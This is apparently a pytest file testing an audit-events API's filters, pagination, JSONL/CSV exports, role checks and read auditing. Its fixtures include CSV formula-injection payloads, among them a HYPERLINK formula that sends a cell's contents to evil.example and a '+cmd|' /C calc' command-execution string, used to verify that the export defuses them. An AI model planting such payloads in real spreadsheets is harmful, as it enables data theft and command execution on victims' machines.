"""GET /v1/audit/events filters and GET /v1/audit/events/export (JSONL and CSV) over a
live server: filtering, cursor pagination, streaming exports bounded by ``limit``,
CSV escaping and formula-injection protection, who may read, and the read audited."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from tests.api.conftest import Live

from agentiam.adapters.storage.unit_of_work import SqlUnitOfWork
from agentiam.core.access.admin_keys import Role
from agentiam.core.audit.events import (
    Actor,
    ActorType,
    AuditEvent,
    Outcome,
    ResourceRef,
    TraceContext,
)
from agentiam.core.audit.query_export import CSV_COLUMNS
from agentiam.ports import AuditQuery

T0 = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
TRACE = "0af7651916cd43dd8448eb211c80319c"
OTHER_TRACE = "4bf92f3577b34da6a3ce929d0e0e4736"
ADA = "hum_01JF0000000000000000000ADA"
AGENT = "agt_01JF00000000000000000AGENT"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _event(n: int, **kw: Any) -> AuditEvent:
    fields: dict[str, Any] = {
        "type": "policy.decision",
        "actor": Actor(ActorType.AGENT, AGENT),
        "action": "read",
        "source": "api-test",
        "trace": TraceContext(TRACE, f"{n + 1:016x}"),
        "now": T0 + timedelta(minutes=n),
        "agent_id": AGENT,
        "initiating_human": ADA,
        "delegation_chain": (AGENT,),
        "resource": ResourceRef("Document", f"doc-{n}"),
        "decision_id": f"dec_{n}",
    }
    fields.update(kw)
    return AuditEvent.create(**fields)


EVENTS = [
    _event(0),
    _event(1, outcome=Outcome.DENIED, action="delete", reason="no policy permits delete"),
    _event(2, trace=TraceContext(OTHER_TRACE, "0" * 15 + "3"), initiating_human=None),
    # Hostile values an agent could choose (a resource id, a reason) meant to run as a
    # formula in the spreadsheet of whoever opens the CSV.
    _event(3, resource=ResourceRef("Document", EVIL), reason="+cmd|' /C calc'!A0"),
    _event(4, action="-2+3", reason='@SUM(1,2)\n"quoted", with comma'),
    _event(5, action="\tTAB", reason="\rCR"),
]


@pytest.fixture
def seeded(live: Live) -> Live:
    with SqlUnitOfWork(live.container.engine) as uow:
        uow.audit.append_many(EVENTS)
        uow.commit()
    return live


def _ids(items: list[dict[str, Any]]) -> list[int]:
    ours = {e.event_id: i for i, e in enumerate(EVENTS)}
    return [ours[i["event_id"]] for i in items if i["event_id"] in ours]


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"agent_id": AGENT}, [0, 1, 2, 3, 4, 5]),
        ({"human_id": ADA}, [0, 1, 3, 4, 5]),
        ({"action": "delete"}, [1]),
        ({"resource_type": "Document", "resource_id": "doc-2"}, [2]),
        ({"decision_id": "dec_4"}, [4]),
        ({"trace_id": OTHER_TRACE}, [2]),
        ({"outcome": "denied"}, [1]),
        ({"type": "policy.decision", "outcome": "success", "human_id": ADA}, [0, 3, 4, 5]),
        ({"since": "2026-11-23T12:02:00Z", "until": "2026-11-23T12:04:00Z"}, [2, 3]),
        ({"since": "2026-11-23T13:03:00+01:00"}, [3, 4, 5]),
    ],
)
def test_list_filters(
    seeded: Live, admin: httpx.Client, params: dict[str, str], expected: list[int]
) -> None:
    r = admin.get("/v1/audit/events", params={**params, "limit": 200})
    assert r.status_code == 200, r.text
    assert _ids(r.json()["items"]) == expected


def test_list_pages_with_the_cursor_under_filters(seeded: Live, admin: httpx.Client) -> None:
    got: list[int] = []
    cursor: str | None = None
    while True:
        params: dict[str, Any] = {"human_id": ADA, "limit": 2}
        if cursor:
            params["cursor"] = cursor
        body = admin.get("/v1/audit/events", params=params).json()
        got += _ids(body["items"])
        cursor = body["next_cursor"]
        if cursor is None:
            break
    assert got == [0, 1, 3, 4, 5]


@pytest.mark.parametrize(
    ("params", "status"),
    [
        ({"trace_id": "not-a-trace"}, 422),
        ({"trace_id": TRACE.upper()}, 422),
        ({"outcome": "maybe"}, 422),
        ({"since": "2026-11-23T12:00:00"}, 400),  # no time zone
        ({"since": "2026-11-23T12:00:00Z", "until": "2026-11-23T11:00:00Z"}, 400),
        ({"resource_id": "x" * 513}, 422),
    ],
)
def test_bad_filters_are_refused(
    seeded: Live, admin: httpx.Client, params: dict[str, str], status: int
) -> None:
    for path in ("/v1/audit/events", "/v1/audit/events/export"):
        r = admin.get(path, params=params)
        assert r.status_code == status, (path, r.text)
        assert r.headers["content-type"].startswith("application/problem+json")


def test_jsonl_export_streams_the_stored_records(seeded: Live, admin: httpx.Client) -> None:
    with admin.stream("GET", "/v1/audit/events/export", params={"human_id": ADA}) as r:
        assert r.status_code == 200
        assert r.headers["content-type"].startswith("application/x-ndjson")
        assert "attachment" in r.headers["content-disposition"]
        assert r.headers["x-export-max-rows"] == "100000"
        lines = list(r.iter_lines())
    records = [json.loads(line) for line in lines if line]
    assert _ids(records) == [0, 1, 3, 4, 5]
    # Each line is the covered record, exactly as the list endpoint serves it.
    assert records[0] == EVENTS[0].to_dict()


def test_export_is_bounded_and_resumes_after_an_event(seeded: Live, admin: httpx.Client) -> None:
    params = {"agent_id": AGENT, "limit": 4}
    first = [
        json.loads(x)
        for x in admin.get("/v1/audit/events/export", params=params).text.split("\n")
        if x
    ]
    assert _ids(first) == [0, 1, 2, 3]
    rest = admin.get(
        "/v1/audit/events/export", params={**params, "after_event": first[-1]["event_id"]}
    ).text
    assert _ids([json.loads(x) for x in rest.split("\n") if x]) == [4, 5]
    too_many = admin.get("/v1/audit/events/export", params={"limit": 100_001})
    assert too_many.status_code == 422


def test_csv_export_escapes_and_defuses_formulas(seeded: Live, admin: httpx.Client) -> None:
    r = admin.get("/v1/audit/events/export", params={"format": "csv", "agent_id": AGENT})
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text, newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    by_id = {row[0]: dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]}
    assert len(by_id) == 6
    plain = by_id[EVENTS[0].event_id]
    assert plain["resource"] == "Document:doc-0"
    assert plain["actor"] == f"agent:{AGENT}"
    assert plain["trace_id"] == TRACE
    assert plain["initiating_human"] == ADA
    assert plain["delegation_chain"] == AGENT
    assert by_id[EVENTS[1].event_id]["reason"] == "no policy permits delete"
    # A cell that starts like a formula gets a leading quote; the text is kept.
    evil = by_id[EVENTS[3].event_id]
    assert evil["resource"] == "Document:" + EVIL  # not at the start of the cell
    assert evil["reason"] == "'+cmd|' /C calc'!A0"
    odd = by_id[EVENTS[4].event_id]
    assert odd["action"] == "'-2+3"
    assert odd["reason"] == '\'@SUM(1,2)\n"quoted", with comma'  # quotes, comma, newline survive
    ws = by_id[EVENTS[5].event_id]
    assert (ws["action"], ws["reason"]) == ("'\tTAB", "'\rCR")
    for row in rows[1:]:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row)


def test_csv_resource_value_starting_with_a_formula_is_defused(
    live: Live, admin: httpx.Client
) -> None:
    with SqlUnitOfWork(live.container.engine) as uow:
        uow.audit.append(_event(9, resource=None, action=EVIL, decision_id=None))
        uow.commit()
    r = admin.get("/v1/audit/events/export", params={"format": "csv", "action": EVIL})
    rows = list(csv.reader(io.StringIO(r.text, newline="")))
    assert len(rows) == 2
    assert rows[1][CSV_COLUMNS.index("action")] == "'" + EVIL
    assert rows[1][CSV_COLUMNS.index("resource")] == ""


def test_export_is_audited_as_a_read(seeded: Live, admin: httpx.Client) -> None:
    r = admin.get("/v1/audit/events/export", params={"format": "csv", "trace_id": TRACE})
    assert r.status_code == 200
    reads = live_reads(seeded)
    export = [e for e in reads if e.action == "audit.export"]
    assert len(export) == 1
    assert export[0].details["trace_id"] == TRACE
    assert export[0].details["format"] == "csv"
    admin.get("/v1/audit/events", params={"outcome": "denied"})
    listed = [e for e in live_reads(seeded) if e.action == "audit.list"]
    assert listed[-1].details == {"outcome": "denied"}


def live_reads(live: Live) -> list[AuditEvent]:
    return list(live.container.audit.find(AuditQuery(limit=200, type="api.read")).items)


@pytest.mark.parametrize("path", ["/v1/audit/events", "/v1/audit/events/export"])
def test_only_audit_readers_may_query_or_export(seeded: Live, path: str) -> None:
    with seeded.client() as anonymous:
        assert anonymous.get(path).status_code == 401
    for role, status in ((Role.VERIFIER, 403), (Role.AUDITOR, 200)):
        with seeded.client(seeded.key(role)) as client:
            assert client.get(path, params={"trace_id": TRACE}).status_code == status, role
